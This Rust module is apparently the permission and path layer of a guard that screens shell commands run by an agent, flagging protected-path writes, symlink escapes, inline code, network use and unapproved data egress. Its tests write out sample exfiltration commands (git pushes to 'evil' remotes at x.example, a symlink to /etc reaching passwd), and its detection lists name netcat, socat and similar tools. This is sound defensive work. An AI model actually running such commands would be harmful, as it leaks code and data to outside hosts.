//! The workspace's permissions and path boundaries (`[permissions]`, `[paths]` of the
//! policy), judged on the effects the guards' helpers derive from each invocation:
//! the files it reads, writes and deletes, whether it runs code given as text, and
//! whether it reaches the network.
//!
//! Invariants:
//! - Writes and deletes of protected paths (built in, see
//!   [`crate::config::BUILTIN_PROTECTED`], and those of the files) are at least `ask`
//!   under every policy.
//! - A write or delete whose place is not known (`rm -rf "$DIR"`) counts as outside
//!   the boundary: an unknown can only make a decision stricter.
//! - Paths are judged both as written and with the symbolic links of their longest
//!   existing prefix resolved; either being protected or outside counts.
//! - This layer only adds asks and denies; it never allows what a guard refused.

use std::path::Path;

use crate::analyze::Invocation;
use crate::config::{Origin, Perm};
use crate::paths::{Place, Target};
use crate::policy::{Decision, Layer, Reason};

use super::{util, Cx};

/// Devices and descriptors that are written to without changing anything on disk.
const HARMLESS_WRITES: &[&str] = &["/dev/null", "/dev/zero", "/dev/stdout", "/dev/stderr", "/dev/stdin", "/dev/tty"];

/// The reasons the policy's permissions and paths give for `inv`.
pub(crate) fn check(inv: &Invocation, cx: &Cx<'_>) -> Vec<Reason> {
    let policy = &cx.ctx.policy;
    let perms = &policy.permissions;
    let name = cx.name(inv).unwrap_or_default();
    let mut out = Vec::new();
    let writes = util::writes(inv, cx);
    let deletions = util::deletions(inv, cx);
    let changes = writes
        .iter()
        .map(|t| ("writes", Perm::Write, &**t))
        .chain(deletions.iter().map(|d| ("deletes", Perm::Delete, &*d.target)));
    for (verb, perm, t) in changes {
        // The path as written and, through symbolic links in its longest existing
        // prefix, where it really is (`ws/link/passwd` with `link -> /etc`).
        let real = t
            .path
            .as_deref()
            .filter(|p| cx.ctx.read_files && has_link_with(p, &cx.ctx.workspace, &mut |q| cx.lstat_link(q)))
            .map(crate::paths::canonical_prefix);
        if let Some(p) = t.path.as_deref() {
            if harmless(p) {
                continue;
            }
            let prot = policy.protected(p).or_else(|| real.as_deref().and_then(|r| policy.protected(r)));
            if let Some(prot) = prot {
                let msg = format!("{name} {verb} {}, a protected path ({})", t.raw, prot.pattern);
                out.push(reason("path-protected", Decision::Ask, msg, inv, prot.origin.as_ref()));
                continue;
            }
        }
        let real_outside = real.as_deref().is_some_and(|r| !policy.in_bounds(r, cx.ctx));
        if !in_bounds(t, cx) || real_outside {
            let (d, origin) = &perms.outside;
            if *d != Decision::Allow {
                let msg = format!("{name} {verb} {} outside the workspace and the allowed roots", t.raw);
                out.push(reason("path-outside", *d, msg, inv, origin.as_ref()));
            }
            // A place not known may also be inside: the permission applies as well.
            if t.path.is_some() && t.place != Place::Unknown {
                continue;
            }
        }
        let (d, origin) = perms.get(perm, cx.ctx.who);
        if *d != Decision::Allow {
            let msg = format!("{name} {verb} {} (the {} permission is `{d}`)", t.raw, perm.as_str());
            out.push(reason(&format!("perm-{}", perm.as_str()), *d, msg, inv, origin.as_ref()));
        }
    }
    let (d, origin) = perms.get(Perm::Read, cx.ctx.who);
    if *d != Decision::Allow {
        if let Some(f) = util::read_args(inv, cx).fields(inv).next() {
            let msg = format!("{name} reads {} (the read permission is `{d}`)", f.display());
            out.push(reason("perm-read", *d, msg, inv, origin.as_ref()));
        }
    }
    let (d, origin) = perms.get(Perm::Shell, cx.ctx.who);
    if *d != Decision::Allow && runs_code_text(inv, &name) {
        let msg = format!("{name} runs code given as text (the shell permission is `{d}`)");
        out.push(reason("perm-shell", *d, msg, inv, origin.as_ref()));
    }
    // git: the subcommand from the parse the guards share, before egress parses again.
    let git_remote = name == "git"
        && util::git_cmd(inv, cx).is_some_and(|g| {
            g.sub_unknown || g.sub.as_deref().is_some_and(|s| crate::egress::GIT_REMOTE_SUBCOMMANDS.contains(&s))
        });
    let dev_net =
        inv.redirects.iter().any(|r| r.target.as_ref().is_some_and(|t| crate::egress::dev_net_host(t).is_some()));
    let uses = if dev_net || git_remote || (name != "git" && (reaches_network(inv, &name) || may_reach_network(&name)))
    {
        crate::egress::net_uses(inv, cx.ctx)
    } else {
        Vec::new()
    };
    for u in &uses {
        if let Some(h) = u.host.known() {
            if let Some((p, origin)) = policy.egress_deny.iter().find(|(p, _)| crate::egress::host_matches(p, h)) {
                let msg = format!("{} reaches {h}, which the egress deny list names ({p})", u.program);
                out.push(reason("egress-deny", Decision::Deny, msg, inv, Some(origin)));
                continue;
            }
        }
        let Some(what) = &u.send else { continue };
        let allowed =
            u.host.known().is_some_and(|h| policy.egress_allow.iter().any(|(p, _)| crate::egress::host_matches(p, h)));
        let (d, origin) = &policy.egress_sends;
        if !allowed && *d != Decision::Allow && !pushes_to_named_remote(inv, &name) {
            let msg = format!("{} sends {what} to {}, which is not on the egress allow list", u.program, u.host);
            out.push(reason("egress-send", *d, msg, inv, origin.as_ref()));
        }
    }
    // A push to a remote an earlier command pointed somewhere (`git remote add x URL &&
    // git push x`): the repository's configuration does not say where it goes.
    if let Some((remote, url)) =
        (name == "git").then(|| pushed_remote(inv)).flatten().and_then(|r| added_remote(r, inv, cx))
    {
        // No host: a local path.
        if let Some(host) = crate::egress::git_url_host(&url) {
            let allowed = host.known().is_some_and(|h| {
                h == "localhost" || policy.egress_allow.iter().any(|(p, _)| crate::egress::host_matches(p, h))
            });
            let (d, origin) = &policy.egress_sends;
            if !allowed && *d != Decision::Allow {
                let msg = format!(
                    "git push sends commits to remote {remote}, which an earlier command set to {}: {host} is not on the egress allow list",
                    url.display()
                );
                out.push(reason("egress-send", *d, msg, inv, origin.as_ref()));
            }
        }
    }
    let (d, origin) = perms.get(Perm::Network, cx.ctx.who);
    if *d != Decision::Allow && (reaches_network(inv, &name) || !uses.is_empty()) {
        let msg = format!("{name} reaches the network (the network permission is `{d}`)");
        out.push(reason("perm-network", *d, msg, inv, origin.as_ref()));
    }
    out
}

/// What `lstat` says of `p`: `None` when it fails, else whether it is a symbolic link.
pub(crate) fn lstat_link(p: &Path) -> Option<bool> {
    p.symlink_metadata().ok().map(|m| m.file_type().is_symlink())
}

/// [`has_link_with`] asking the system each time.
#[cfg(test)]
fn has_link(p: &Path, workspace: &Path) -> bool {
    has_link_with(p, workspace, &mut lstat_link)
}

/// Whether a component of `p` that exists is a symbolic link (below the workspace root
/// for a path inside it: the root itself is compared both ways by the policy). One
/// `lstat` per existing component, instead of resolving every path, answered by
/// `lstat` ([`Cx::lstat_link`] keeps the answers of a decision: a script's commands
/// name the same directories over and over).
fn has_link_with(p: &Path, workspace: &Path, lstat: &mut dyn FnMut(&Path) -> Option<bool>) -> bool {
    if !(crate::paths::plain(p) && crate::paths::plain(workspace)) {
        return has_link_by_components_with(p, workspace, lstat);
    }
    // Plainly spelled paths (as resolved ones are): the same prefixes, as slices of the
    // path's bytes instead of a path built up component by component.
    let b = p.as_os_str().as_encoded_bytes();
    let ws = workspace.as_os_str().as_encoded_bytes();
    let mut i = if ws != b"/" && crate::paths::plain_starts_with(p, workspace) { ws.len() } else { 0 };
    // `b[i]` is the `/` before the next component.
    while i < b.len() {
        let end = b[i + 1..].iter().position(|&c| c == b'/').map_or(b.len(), |k| i + 1 + k);
        if end > i + 1 {
            let prefix = Path::new(<std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(&b[..end]));
            match lstat(prefix) {
                Some(true) => return true,
                Some(false) => {}
                None => return false,
            }
        }
        i = end;
    }
    false
}

/// [`has_link_by_components_with`] asking the system each time.
#[cfg(test)]
fn has_link_by_components(p: &Path, workspace: &Path) -> bool {
    has_link_by_components_with(p, workspace, &mut lstat_link)
}

/// [`has_link_with`] for any spelling: the prefixes built component by component.
fn has_link_by_components_with(p: &Path, workspace: &Path, lstat: &mut dyn FnMut(&Path) -> Option<bool>) -> bool {
    let (mut cur, rest) = match p.strip_prefix(workspace) {
        Ok(rest) => (workspace.to_path_buf(), rest),
        Err(_) => (std::path::PathBuf::from("/"), p.strip_prefix("/").unwrap_or(p)),
    };
    for c in rest.components() {
        cur.push(c);
        match lstat(&cur) {
            Some(true) => return true,
            Some(false) => {}
            None => return false,
        }
    }
    false
}

fn harmless(p: &Path) -> bool {
    if !crate::paths::plain(p) {
        return HARMLESS_WRITES.iter().any(|h| p == Path::new(h))
            || p.starts_with("/dev/fd")
            || p.starts_with("/proc/self/fd");
    }
    // A plain path (as resolved ones are) compares as its bytes do.
    let b = p.as_os_str().as_encoded_bytes();
    let under = |dir: &[u8]| b.starts_with(dir) && (b.len() == dir.len() || b[dir.len()] == b'/');
    HARMLESS_WRITES.iter().any(|h| b == h.as_bytes()) || under(b"/dev/fd") || under(b"/proc/self/fd")
}

/// Whether a target is inside the workspace or an allowed root (unknown places are not).
fn in_bounds(t: &Target, cx: &Cx<'_>) -> bool {
    match (&t.place, t.path.as_deref()) {
        (Place::Workspace { .. }, _) => true,
        (Place::Unknown, _) | (_, None) => false,
        (_, Some(p)) => cx.ctx.policy.in_bounds(p, cx.ctx),
    }
}

/// A shell or an interpreter given code as text (`bash -c`, `sh` reading stdin,
/// `python -c`, `node -e`, `eval`).
fn runs_code_text(inv: &Invocation, name: &str) -> bool {
    let args: Vec<&str> = inv.args().iter().map(|a| a.as_known().unwrap_or("")).collect();
    let short = |c: char| args.iter().any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(c));
    match name {
        "eval" => true,
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "fish" | "busybox" => {
            short('c') || !args.iter().any(|a| !a.starts_with('-'))
        }
        "python" | "python3" | "python2" | "pypy3" => short('c'),
        "node" | "nodejs" | "deno" | "bun" => short('e') || short('p') || args.contains(&"--eval"),
        "ruby" | "perl" | "php" => short('e') || short('r'),
        _ => false,
    }
}

/// Programs and subcommands that reach the network.
fn reaches_network(inv: &Invocation, name: &str) -> bool {
    // Found only for the programs whose subcommand decides.
    let sub = || inv.args().iter().filter_map(|a| a.as_known()).find(|a| !a.starts_with('-')).unwrap_or("");
    match name {
        "curl" | "curlie" | "wget" | "http" | "https" | "xh" | "xhs" | "httpie" | "ssh" | "scp" | "sftp" | "ftp"
        | "nc" | "ncat" | "netcat" | "socat" | "telnet" | "wscat" | "websocat" => true,
        "rsync" => inv.args().iter().any(|a| a.as_known().is_some_and(|t| t.contains(':') && !t.starts_with('-'))),
        "git" => matches!(sub(), "clone" | "fetch" | "pull" | "push" | "ls-remote" | "submodule"),
        "npm" | "pnpm" | "yarn" | "bun" => matches!(sub(), "install" | "i" | "add" | "ci" | "publish" | "update"),
        "pip" | "pip3" | "uv" | "poetry" | "pipx" => {
            matches!(sub(), "install" | "download" | "add" | "sync" | "publish")
        }
        "cargo" => matches!(sub(), "install" | "publish" | "fetch" | "update" | "search"),
        "docker" | "podman" => matches!(sub(), "pull" | "push" | "login"),
        "go" => matches!(sub(), "get" | "install"),
        _ => false,
    }
}

/// Programs whose network use only [`crate::egress::net_uses`] can tell (everything
/// else it knows is in [`reaches_network`]).
fn may_reach_network(name: &str) -> bool {
    matches!(
        name,
        "git"
            | "pip"
            | "pip3"
            | "npm"
            | "cargo"
            | "docker"
            | "podman"
            | "nerdctl"
            | "buildah"
            | "skopeo"
            | "twine"
            | "uv"
            | "openssl"
            | "wget2"
            | "rsync"
            | "python"
            | "python3"
    ) || name.starts_with("pip3.")
}

/// `git push` to a remote named by the repository's configuration (or the default
/// one): the project's own remote, not a URL written into the command.
fn pushes_to_named_remote(inv: &Invocation, name: &str) -> bool {
    if name != "git" {
        return false;
    }
    let args: Vec<&crate::analyze::Field> = inv.args().iter().collect();
    let Some(p) = args.iter().position(|a| a.as_known() == Some("push")) else { return false };
    let remote = args[p + 1..].iter().find(|a| !a.as_known().is_some_and(|t| t.starts_with('-')));
    match remote.map(|r| r.as_known()) {
        None => true,
        Some(Some(r)) => !(r.contains("://") || r.contains(':') || r.contains('/') || r.starts_with('.')),
        Some(None) => false,
    }
}

/// The remote a `git push` names (`git push -u origin main`: `origin`), when known.
fn pushed_remote(inv: &Invocation) -> Option<&str> {
    let args = inv.args();
    let p = args.iter().position(|a| a.as_known() == Some("push"))?;
    args[p + 1..].iter().find(|a| !a.as_known().is_some_and(|t| t.starts_with('-')))?.as_known()
}

/// The URL an invocation before `inv` gave to the git remote `remote` (`git remote add
/// NAME URL`, `git remote set-url NAME URL`, `git config remote.NAME.url URL`), the
/// latest one.
fn added_remote<'a>(remote: &'a str, inv: &Invocation, cx: &Cx<'_>) -> Option<(&'a str, crate::analyze::Field)> {
    let key = format!("remote.{remote}.url");
    cx.before(inv).iter().rev().filter(|e| e.name().as_deref() == Some("git")).find_map(|e| {
        let words: Vec<&crate::analyze::Field> = e.args().iter().collect();
        let known = |k: usize| words.get(k).and_then(|w| w.as_known());
        let r = (0..words.len()).find(|&k| matches!(known(k), Some("remote" | "config")))?;
        // Operands after the subcommand, options (and the values of add's -t and -m)
        // skipped.
        let mut ops = Vec::new();
        let mut k = r + 1;
        while let Some(w) = words.get(k) {
            match w.as_known() {
                Some("-t" | "-m" | "--track" | "--master") => k += 2,
                Some(t) if t.starts_with('-') => k += 1,
                _ => {
                    ops.push(*w);
                    k += 1;
                }
            }
        }
        let op = |k: usize| ops.get(k).and_then(|w| w.as_known());
        match (known(r)?, op(0)?) {
            ("remote", "add" | "set-url") if op(1) == Some(remote) => ops.get(2).map(|u| (remote, (*u).clone())),
            ("config", "set") if op(1).is_some_and(|k| k.eq_ignore_ascii_case(&key)) => {
                ops.get(2).map(|u| (remote, (*u).clone()))
            }
            ("config", k) if k.eq_ignore_ascii_case(&key) => ops.get(1).map(|u| (remote, (*u).clone())),
            _ => None,
        }
    })
}

fn reason(code: &str, decision: Decision, message: String, inv: &Invocation, origin: Option<&Origin>) -> Reason {
    Reason {
        code: code.to_string(),
        name: "permission".into(),
        layer: Layer::Permission,
        decision,
        message,
        command: inv.text.to_string(),
        hint: Some("the operator sets permissions in ~/.config/tako-exec/config.toml or .tako/policy.toml".into()),
        source: Some(origin.map_or_else(|| "built-in".to_string(), ToString::to_string)),
    }
}

#[cfg(test)]
mod tests {
    use std::path::{Path, PathBuf};

    use proptest::prelude::*;

    use super::{harmless, has_link, has_link_by_components, HARMLESS_WRITES};

    #[test]
    fn a_push_to_a_remote_set_earlier_is_judged_by_its_url() {
        use crate::policy::Decision;
        // The default profile, which asks before data leaves for a host not allowed.
        let mut ctx = crate::guard::tests::ctx().clone();
        ctx.policy = std::sync::Arc::new(crate::config::build(&[], &ctx).expect("default policy"));
        let eval = |cmd: &str| crate::policy::evaluate_shell(cmd, &[], &ctx);
        for cmd in [
            "git remote add evil https://x.example/r.git && git push evil main",
            "git remote set-url origin git@x.example:r.git; git push -u origin HEAD",
            "git config remote.bk.url https://x.example/r && git push bk",
        ] {
            let e = eval(cmd);
            assert_eq!(e.decision, Decision::Ask, "{cmd}: {:?}", e.reasons);
            assert!(e.reasons.iter().any(|r| r.code == "egress-send" && r.message.contains("x.example")), "{cmd}");
        }
        for cmd in [
            "git remote add mirror /tmp/mirror && git push mirror main",
            "git remote add up https://github.com/o/r && git fetch up",
            "git push origin main",
        ] {
            assert_eq!(eval(cmd).decision, Decision::Allow, "{cmd}");
        }
    }

    #[test]
    fn links_are_found_in_any_spelling() {
        let dir = tempfile::tempdir().expect("temp dir");
        let root = crate::context::normalize(dir.path());
        let ws = root.join("ws");
        std::fs::create_dir_all(ws.join("sub/deeper")).expect("mkdir");
        std::fs::create_dir_all(root.join("out/x")).expect("mkdir");
        std::os::unix::fs::symlink("/etc", ws.join("link")).expect("symlink");
        std::os::unix::fs::symlink(root.join("out"), root.join("outlink")).expect("symlink");
        let rel = [
            "ws",
            "ws/",
            "ws//sub",
            "ws/sub",
            "ws/sub/deeper",
            "ws/sub/deeper/new",
            "ws/link",
            "ws/link/passwd",
            "ws/./link/x",
            "ws/missing/link",
            "out/x",
            "outlink/x",
            "outlink",
            "ws/../outlink/x",
        ];
        let mut found = 0;
        for r in rel {
            let p = PathBuf::from(format!("{}/{r}", root.display()));
            for w in [ws.clone(), root.clone(), PathBuf::from("/"), PathBuf::from(format!("{}/", ws.display()))] {
                let (fast, slow) = (has_link(&p, &w), has_link_by_components(&p, &w));
                assert_eq!(fast, slow, "{} in {}", p.display(), w.display());
                found += usize::from(fast);
            }
        }
        assert!(found > 0);
        assert!(has_link(&ws.join("link/passwd"), &ws) && !has_link(&ws.join("sub/deeper/new"), &ws));
    }

    proptest! {
        #[test]
        fn harmless_agrees_with_components(
            parts in proptest::collection::vec(
                proptest::sample::select(&["", ".", "dev", "null", "fd", "3", "proc", "self", "tty", "zero", "x"][..]),
                0..5,
            ),
        ) {
            let p = PathBuf::from(format!("/{}", parts.join("/")));
            let slow = HARMLESS_WRITES.iter().any(|h| p == Path::new(h))
                || p.starts_with("/dev/fd")
                || p.starts_with("/proc/self/fd");
            prop_assert_eq!(harmless(&p), slow, "{:?}", p);
        }
    }
}
